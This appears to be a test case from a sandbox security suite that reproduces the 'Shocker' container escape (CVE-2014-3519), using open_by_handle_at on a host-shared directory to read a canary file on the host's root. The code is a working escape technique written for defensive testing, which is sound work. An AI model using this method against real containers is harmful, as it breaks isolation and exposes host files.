// "Shocker": opens a file of the host by its handle, which needs no path. The mount that it goes
// through is a directory that the host shares with the sandbox.
#include <fcntl.h>
#include <string.h>
#include <unistd.h>

#include <cstdlib>
#include <vector>

#include "tests/security/attack.h"
#include "tests/security/canary.h"

using namespace atl::attack;  // NOLINT

ATTACK(open_by_handle, .title = "open a file outside by its handle", .dossier = 13,
       .cve = "CVE-2014-3519", .user = User::root, .stopped_by = kPrivilegedCall) {
  const std::string told_handle = told("SECRET_HANDLE");
  const size_t colon = told_handle.find(':');
  if (colon == std::string::npos) return not_applicable("the host gave no handle");
  const std::string hex = told_handle.substr(colon + 1);
  std::vector<char> memory(sizeof(file_handle) + hex.size() / 2);
  auto* handle = reinterpret_cast<file_handle*>(memory.data());
  handle->handle_bytes = static_cast<unsigned>(hex.size() / 2);
  handle->handle_type = atoi(told_handle.c_str());
  for (size_t at = 0; at + 1 < hex.size(); at += 2) {
    const std::string byte = hex.substr(at, 2);
    handle->f_handle[at / 2] = static_cast<unsigned char>(strtol(byte.c_str(), nullptr, 16));
  }
  const int shared = open(told("SHARED").c_str(), O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  if (shared < 0) return denied("open the shared directory");
  const int file = open_by_handle_at(shared, handle, O_RDONLY | O_CLOEXEC);
  if (file < 0) return denied("open_by_handle_at");
  const auto secret = read_all(file);
  if (secret != canary()) return denied("read by handle");
  return reached("a file of the host's root by its handle");
}
